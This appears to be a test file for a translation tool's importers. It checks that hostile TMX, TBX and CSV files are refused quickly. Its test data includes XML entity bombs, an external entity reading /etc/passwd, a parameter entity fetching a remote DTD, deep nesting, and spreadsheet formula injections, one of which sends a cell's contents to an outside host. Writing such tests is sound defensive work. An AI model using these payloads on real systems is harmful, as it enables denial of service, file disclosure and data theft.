"""Files that are made to harm whoever imports or opens them: refused in a sentence, at once, or written so that they cannot."""

import csv
import io
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from okienko_translation.editing import GLOSSARY, MEMORY, EditingError, Editor
from okienko_translation.glossary.csv_file import read_csv, write_csv
from okienko_translation.glossary.entry import Entry
from okienko_translation.glossary.tbx import read_tbx
from okienko_translation.memory import tmx

SOON = 5.0
"""Seconds; what is refused takes 0.1 on a machine at rest, and took minutes before."""
LARGEST = 1_000_000


def laughs(root: str) -> bytes:
    """A billion laughs: ten entities, each of ten of the one before."""
    lines = [f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10)) if n else "lol"}">' for n in range(10)]
    return f"<!DOCTYPE {root} [{''.join(lines)}]><{root}>&l9;</{root}>".encode()


def quadratic(root: str) -> bytes:
    """One long entity, asked for many times."""
    return f'<!DOCTYPE {root} [<!ENTITY a "{"a" * 200_000}">]><{root}>{"&a;" * 200_000}</{root}>'.encode()


def outside(root: str) -> bytes:
    return f'<!DOCTYPE {root} [<!ENTITY a SYSTEM "file:///etc/passwd">]><{root}>&a;</{root}>'.encode()


def parameter(root: str) -> bytes:
    return f'<!DOCTYPE {root} [<!ENTITY % a SYSTEM "http://127.0.0.1:9/x.dtd"> %a;]><{root}/>'.encode()


def deep(root: str) -> bytes:
    return f"<{root}>{'<a>' * 140_000}{'</a>' * 140_000}</{root}>".encode()


def deep_words(root: str) -> bytes:
    """Where words are looked for: inside a segment, and terms inside terms inside terms."""
    if root == "tmx":
        inside = f"<seg>{'<hi>' * 100_000}{'</hi>' * 100_000}</seg>"
        return f'<tmx><body><tu><tuv xml:lang="pl">{inside}</tuv></tu></body></tmx>'.encode()
    one = "<conceptEntry><langSec xml:lang='pl'><termSec><term>"
    return f"<tbx>{one * 8_000}x{'</term></termSec></langSec></conceptEntry>' * 8_000}</tbx>".encode()


@pytest.mark.parametrize(("kind", "root"), [(MEMORY, "tmx"), (GLOSSARY, "tbx")])
@pytest.mark.parametrize("make", [laughs, quadratic, outside, parameter, deep, deep_words])
def test_a_file_that_swells_fetches_or_nests_is_refused_at_once_and_changes_nothing(
    tmp_path: Path, kind: Any, root: str, make: Callable[[str], bytes]
) -> None:
    editor: Editor[Any] = Editor(kind, tmp_path, [])
    content = make(root)
    assert len(content) <= LARGEST, "the contract refuses more"
    started = time.thread_time()
    with pytest.raises(EditingError) as refused:
        editor.take_in(content, f"import.{root}")
    assert time.thread_time() - started < SOON
    assert refused.value.reason == "FILE_UNREADABLE"
    assert "/etc/passwd" not in str(refused.value) or "root:" not in str(refused.value)
    assert editor.everything() == []


def test_the_deepest_real_file_is_read() -> None:
    words = "<hi>" * 8 + "termin" + "</hi>" * 8
    unit = f'<tu><tuv xml:lang="pl"><seg>{words}</seg></tuv><tuv xml:lang="en"><seg>date</seg></tuv></tu>'
    assert tmx.parse(f"<tmx><body>{unit}</body></tmx>".encode(), "a.tmx") == [tmx.Unit("termin", "date")]
    term = "<termSec><termGrp><term>{}</term></termGrp></termSec>"
    concept = "".join(f'<langSec xml:lang="{tag}">{term.format(tag)}</langSec>' for tag in ("pl", "en"))
    tbx = f"<tbx><text><body><conceptEntry>{concept}</conceptEntry></body></text></tbx>"
    assert read_tbx(tbx.encode(), "a.tbx") == [Entry(("pl",), ("en",))]


@pytest.mark.parametrize("formula", ['=HYPERLINK("https://elsewhere.example/?"&A2;"opłata")', "+1+1", "-1", "@SUM(A1)"])
def test_a_term_that_is_a_formula_opens_as_a_text_and_comes_back_as_it_was(formula: str) -> None:
    entry = Entry((formula,), ("fee", formula), formula)
    content = write_csv([entry])
    _, cells = csv.reader(io.StringIO(content.decode()))
    assert [cell[:1] for cell in cells[:3]] == ["'", "f", "'"]
    assert read_csv(content, "a.csv") == [entry]


@pytest.mark.parametrize(
    "content",
    [
        b"pl,en\n" + b"a" * 200_000 + b",b\n",
        b"pl,en\n\x00,b\n",
        b'pl,en\n"' + b"a\n" * 300_000,
        b"pl,en\n" + b"a|" * 400_000 + b",b\n",
    ],
)
def test_a_hostile_csv_is_refused_at_once(tmp_path: Path, content: bytes) -> None:
    editor = Editor(GLOSSARY, tmp_path, [])
    started = time.thread_time()
    with pytest.raises(EditingError) as refused:
        editor.take_in(content, "import.csv")
    assert time.thread_time() - started < SOON
    assert refused.value.reason == "FILE_UNREADABLE"
    assert editor.everything() == []
